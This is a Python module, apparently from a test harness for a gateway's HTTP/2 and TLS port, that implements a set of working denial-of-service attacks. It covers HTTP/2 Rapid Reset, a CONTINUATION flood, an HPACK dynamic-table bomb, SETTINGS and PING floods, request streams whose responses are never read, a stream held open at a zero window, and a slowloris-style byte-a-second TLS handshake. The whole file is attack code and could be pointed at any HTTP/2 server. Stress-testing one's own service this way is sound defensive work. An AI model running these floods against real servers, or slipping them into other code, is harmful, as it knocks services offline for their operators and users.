"""The attacks on the provider port (HTTP/2 over TLS, and slow TLS): what each connection does once set up."""
import asyncio
import ssl
import struct

from http2_wire import frame, integer, literal
from attack.wire import (
    BODY, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS_ENABLE_PUSH,
    SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS, request_block, settings_frame,
)
from attack.connection import ack_settings


async def rapid_reset(conn):
    block = request_block()
    while True:
        batch = [ack_settings(conn)]
        for _ in range(50):
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, conn.stream, block))
            batch.append(frame(RST_STREAM, 0, conn.stream, struct.pack(">I", 8)))  # CANCEL
            conn.stream += 2
        await conn.send(b"".join(batch), frames=100)
        await asyncio.sleep(0)


async def continuation_flood(conn):
    # A literal header whose value claims 256 MiB, then its value one byte per CONTINUATION, never END_HEADERS.
    first = request_block() + literal(b"x-flood", b"")[:-1] + integer(1 << 28, 7)
    await conn.send(ack_settings(conn) + frame(HEADERS, 0, 1, first))
    batch = frame(CONTINUATION, 0, 1, b"a") * 2000
    while True:
        await conn.send(batch, frames=2000)
        await asyncio.sleep(0)


async def hpack_bomb(conn):
    prefix = request_block() + literal(b"x-bomb", b"z" * 4000, index=True)
    references = 16384 - len(prefix) - 16  # one HEADERS frame of the default 16 KiB: ~12,000 references
    block = prefix + b"\xbe" * references  # 0xbe: dynamic table index 62, the 4,000-byte header
    while True:
        await conn.send(ack_settings(conn) + frame(HEADERS, END_STREAM | END_HEADERS, conn.stream, block))
        conn.stream += 2
        await asyncio.sleep(0)


async def settings_flood(conn):
    one = settings_frame((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_MAX_CONCURRENT_STREAMS, 100),
                         (SETTINGS_INITIAL_WINDOW_SIZE, 65535))
    batch = one * 1000
    while True:
        await conn.send(batch, frames=1000)
        await asyncio.sleep(0)


async def ping_flood(conn):
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    while True:
        await conn.send(batch, frames=1000)
        await asyncio.sleep(0)


async def requests_never_read(conn):
    """HEADERS + DATA(END_STREAM) with a bad JWT, continuously; the socket is never read."""
    while True:
        batch = []
        for _ in range(10):
            batch.append(frame(HEADERS, END_HEADERS, conn.stream, request_block(b"bearer x.y.z")))
            batch.append(frame(DATA, END_STREAM, conn.stream, BODY))
            conn.stream += 2
        await conn.send(b"".join(batch), frames=20)
        await asyncio.sleep(0)


async def hold_one_request(conn):
    """One request whose answer's DATA the gateway cannot send (window 0), then nothing: the stream stays open."""
    await conn.send(frame(HEADERS, END_HEADERS, conn.stream, request_block(b"bearer x.y.z"))
                    + frame(DATA, END_STREAM, conn.stream, BODY), frames=2)
    await asyncio.Future()


def client_hello(context):
    """The first flight of a real TLS handshake (a ClientHello: fresh random and key shares each time), from an
    SSLObject on memory BIOs."""
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing := ssl.MemoryBIO(), server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def dribble(conn, data):
    """One byte a second: slowloris."""
    for byte in data:
        await conn.send(bytes([byte]))
        await asyncio.sleep(1)
    await asyncio.Future()


async def slow_tls(conn):
    await dribble(conn, client_hello(conn.worker.contexts[conn.group.port]))
